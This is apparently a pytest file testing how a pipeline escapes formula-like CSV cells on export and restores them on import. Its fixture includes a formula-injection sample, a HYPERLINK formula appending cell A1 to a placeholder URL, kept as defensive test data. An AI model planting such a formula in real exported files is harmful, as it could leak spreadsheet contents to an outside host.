"""Text stays text: CSV cells that a spreadsheet would run as a formula are escaped, and undone on import."""

from __future__ import annotations

import pandas as pd
import pytest

from pipeline.core.cells import (
    csv_bytes,
    escape_cell,
    escape_frame,
    read_csv,
    unescape_cell,
    write_csv,
)

FORMULAS = [
    '=HYPERLINK("http://x"&A1,"幼儿园")',
    "+86 10 1234",
    "-1+2",
    "@SUM(A1:A2)",
    "\t=1",
    "\r=1",
]
PLAIN = ["幼儿园", "a=b", "", " =1", "1-2", "'quoted", "3.5"]


@pytest.mark.parametrize("value", FORMULAS)
def test_a_formula_like_cell_gets_one_leading_quote(value):
    assert escape_cell(value) == "'" + value
    assert unescape_cell(escape_cell(value)) == value


@pytest.mark.parametrize("value", PLAIN)
def test_plain_text_is_written_as_it_is(value):
    assert escape_cell(value) == value
    assert unescape_cell(value) == value


@pytest.mark.parametrize("value", ["'=1", "''-x", "'@"])
def test_text_that_already_starts_with_a_quote_survives_the_round_trip(value):
    assert escape_cell(value) == "'" + value
    assert unescape_cell(escape_cell(value)) == value


def test_numbers_are_never_escaped():
    frame = pd.DataFrame({"x": [-3.5, 2.0], "n": [-1, 2], "name": ["-3.5", "a"]})
    out = escape_frame(frame)
    assert out["x"].tolist() == [-3.5, 2.0] and out["n"].tolist() == [-1, 2]
    assert out["name"].tolist() == ["'-3.5", "a"]
    assert escape_cell(-3.5) == -3.5 and escape_cell(None) is None


def test_csv_round_trip_is_lossless(tmp_path):
    frame = pd.DataFrame(
        {
            "name": [*FORMULAS, *PLAIN[:2], "'=x", "  spaced  "],
            "lon": [116.3506123 - i for i in range(10)],
        }
    )
    path = write_csv(frame, tmp_path / "x.csv")
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    assert b"\n\"'=HYPERLINK" in raw or b"\n'=HYPERLINK" in raw
    back = read_csv(path, keep_default_na=False)
    assert back["name"].tolist() == frame["name"].tolist()
    assert back["lon"].tolist() == frame["lon"].tolist()
    assert csv_bytes(back) == raw
